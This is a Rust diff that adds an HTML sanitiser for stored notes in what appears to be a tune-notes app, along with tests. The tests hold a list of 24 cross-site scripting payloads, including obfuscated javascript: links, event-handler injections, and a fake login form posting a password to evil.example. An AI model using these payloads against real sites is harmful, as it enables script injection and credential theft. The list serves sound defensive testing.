@@ -1,7 +1,7 @@
 //! Notes are stored as HTML written by other programs and other people: hostile. They are read into a few harmless kinds of
-//! block, which the page builds anew; no foreign markup ever reaches the document. Own notes are edited as plain text.
+//! block, which the page builds anew; no foreign markup ever reaches the document. Own notes are edited in the same few kinds of block.
 
-use super::links::{safe_image, safe_link};
+use crate::domain::links::{safe_image, safe_link};
 
 /// A piece of a note.
 #[derive(Clone, Debug, PartialEq, Eq)]
@@ -117,12 +117,50 @@ pub fn plain(html: &str) -> String {
     text
 }
 
-/// Would editing the note as plain text lose pictures?
-pub fn has_images(html: &str) -> bool {
-    blocks(html).iter().flat_map(|block| &block.pieces).any(|piece| matches!(piece, Piece::Image { .. }))
+/// The note in the little HTML that is stored and that the editor is given: paragraphs, lists, bold, slanted, links, pictures whose data are
+/// in the note. Made anew from what was understood, so that nothing else can be in it. Bare addresses become links.
+pub fn clean(html: &str) -> String {
+    let mut out = String::new();
+    let mut in_list = false;
+    for block in blocks(html) {
+        if block.item != in_list {
+            out.push_str(if block.item { "<ul>" } else { "</ul>" });
+            in_list = block.item;
+        }
+        let pieces: String = block.pieces.iter().map(stored).collect();
+        let name = if block.item { "li" } else { "p" };
+        out.push_str(&format!("<{name}>{pieces}</{name}>"));
+    }
+    if in_list {
+        out.push_str("</ul>");
+    }
+    out
 }
 
-/// Plain text as the HTML that is stored: paragraphs at blank lines, `<br>` at line ends, addresses as links.
+fn stored(piece: &Piece) -> String {
+    match piece {
+        Piece::Text { text, strong, slanted } => {
+            let mut html = linked(text);
+            if *slanted {
+                html = format!("<em>{html}</em>");
+            }
+            if *strong {
+                html = format!("<strong>{html}</strong>");
+            }
+            html
+        }
+        Piece::Link { href, text } => format!("<a href=\"{}\">{}</a>", escaped(href), escaped(text)),
+        Piece::Image { src, alt } => format!("<img src=\"{}\" alt=\"{}\">", escaped(src), escaped(alt)),
+        Piece::Break => "<br>".to_owned(),
+    }
+}
+
+/// A whole tune in ABC as it is stored in a note.
+pub fn of_abc(abc: &str) -> String {
+    format!("<pre>{}</pre>", escaped(abc.trim()))
+}
+
+/// Plain text (pasted, say) as HTML: paragraphs at blank lines, `<br>` at line ends, addresses as links.
 pub fn html(text: &str) -> String {
     let text = text.replace("\r\n", "\n");
     let mut html = String::new();
@@ -445,9 +483,73 @@ mod tests {
         assert_eq!(html(" \n "), "");
     }
 
+    /// What people put into pages that do not look.
+    const HOSTILE: [&str; 24] = [
+        "<script>alert(1)</script>",
+        "<scr<script>ipt>alert(1)</scr</script>ipt>",
+        "<img src=x onerror=alert(1)>",
+        "<img src=\"data:image/png;base64,iVBORw0=\" onload=alert(1)>",
+        "<svg/onload=alert(1)>",
+        "<svg><style><img src=x onerror=alert(1)></style></svg>",
+        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
+        "<iframe srcdoc=\"<script>alert(1)</script>\">",
+        "<a href=javascript:alert(1)>x</a>",
+        "<a href=\"java&#10;script:alert(1)\">x</a>",
+        "<a href=\"&#106;avascript:alert(1)\">x</a>",
+        "<a href=\"https://x.org/&quot; onclick=&quot;alert(1)\">x</a>",
+        "<a href='https://x.org/\"onmouseover=\"alert(1)'>x</a>",
+        "<p style=\"background:url(https://spy.example)\" onclick=alert(1)>x</p>",
+        "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
+        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
+        "<base href=https://evil.example>",
+        "<link rel=stylesheet href=https://evil.example/x.css>",
+        "<object data=x><embed src=x>",
+        "<template><script>alert(1)</script></template>",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+        "&lt;script&gt;alert(1)&lt;/script&gt;",
+        "<textarea></textarea><img src=x onerror=alert(1)>",
+        "<a href=https://x.org><img src=\"data:image/png;base64,AA==\" alt='\"><script>alert(1)</script>'></a>",
+    ];
+
     #[test]
-    fn pictures_are_noticed_before_an_edit_would_lose_them() {
-        assert!(has_images("<p><img src='data:image/png;base64,iVBORw0='></p>"));
-        assert!(!has_images("<img src='https://spy.example/p.png'>"));
+    fn what_is_stored_holds_nothing_but_the_few_harmless_elements() {
+        for html in HOSTILE {
+            let stored = clean(html);
+            let mut rest = stored.as_str();
+            while let Some(at) = rest.find('<') {
+                let (read, after) = tag(&rest[at..]).expect("all that begins with < is an element");
+                let allowed = ["p", "ul", "li", "br", "strong", "em", "a", "img"];
+                assert!(allowed.contains(&read.name.as_str()), "{html} → {stored}");
+                for (name, value) in &read.attributes {
+                    let harmless = match (read.name.as_str(), name.as_str()) {
+                        ("a", "href") => safe_link(value).is_some(),
+                        ("img", "src") => safe_image(value).is_some(),
+                        ("img", "alt") => true,
+                        _ => false,
+                    };
+                    assert!(harmless, "{html} → {stored}: {name}={value}");
+                }
+                rest = after;
+            }
+            assert_eq!(clean(&stored), stored, "cleaning what is clean changes nothing: {html}");
+        }
+    }
+
+    #[test]
+    fn what_the_editor_writes_is_kept() {
+        let written =
+            "<p>Play it <strong>slow</strong>, <em>then</em> faster.</p><ul><li>one</li><li>two</li></ul><p>end</p>";
+        assert_eq!(clean(written), written);
+        assert_eq!(clean("<div>a</div><div>b<br></div>"), "<p>a</p><p>b</p>");
+        assert_eq!(clean("see https://x.org/a."), "<p>see <a href=\"https://x.org/a\">https://x.org/a</a>.</p>");
+        assert_eq!(clean("<p> </p><br>"), "");
+        let picture = "<p><img src=\"data:image/png;base64,iVBORw0=\" alt=\"the B part\"></p>";
+        assert_eq!(clean(picture), picture);
+    }
+
+    #[test]
+    fn abc_in_a_note_comes_back_line_by_line() {
+        let abc = "X:1\nT:A <b> & \"c\"\nK:G\n|:G3 GAB|\nA3 ABd:|";
+        assert_eq!(plain(&of_abc(abc)), abc);
     }
 }
